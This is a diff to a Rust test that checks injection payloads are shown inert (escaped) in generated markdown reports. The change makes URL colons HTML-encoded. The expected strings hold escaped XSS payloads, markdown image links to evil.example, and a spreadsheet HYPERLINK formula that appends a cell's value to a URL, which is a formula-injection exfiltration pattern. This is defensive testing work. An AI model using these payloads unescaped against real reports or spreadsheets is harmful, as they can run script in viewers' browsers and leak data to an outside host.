@@ -1147,9 +1147,9 @@ fn injection_payloads_are_inert_in_the_markdown_reports() {
     for shown in [
         "&lt;script&gt;alert(1)&lt;/script&gt;",
         "\"&gt;&lt;img src=x onerror=alert(1)&gt;",
-        "a\\|b\\`c\\`!\\[x\\](http://evil.example/x.png)",
+        "a\\|b\\`c\\`!\\[x\\](http&#58;//evil.example/x.png)",
         // `&` before a letter could start an entity.
-        "=HYPERLINK(\"http://x/?\"&amp;A1)",
+        "=HYPERLINK(\"http&#58;//x/?\"&amp;A1)",
     ] {
         assert!(all.contains(shown), "{shown} is not shown");
     }
@@ -1211,7 +1211,7 @@ fn injection_payloads_are_inert_in_the_markdown_reports() {
         // The product of the products sheet and of the bill.
         (
             evidence,
-            "| ECS !\\[x\\](http://evil.example/p.png) \\*\\*bold\\*\\* | 0.5 |",
+            "| ECS !\\[x\\](http&#58;//evil.example/p.png) \\*\\*bold\\*\\* | 0.5 |",
         ),
         (
             trail,
@@ -1224,7 +1224,7 @@ fn injection_payloads_are_inert_in_the_markdown_reports() {
         ),
         (
             evidence,
-            "contracts &lt;img src=x onerror=alert(4)&gt; !\\[c\\](http://evil.example/c.png)/contracts.csv",
+            "contracts &lt;img src=x onerror=alert(4)&gt; !\\[c\\](http&#58;//evil.example/c.png)/contracts.csv",
         ),
         // The payout id with its line breaks, in the allocations.
         (
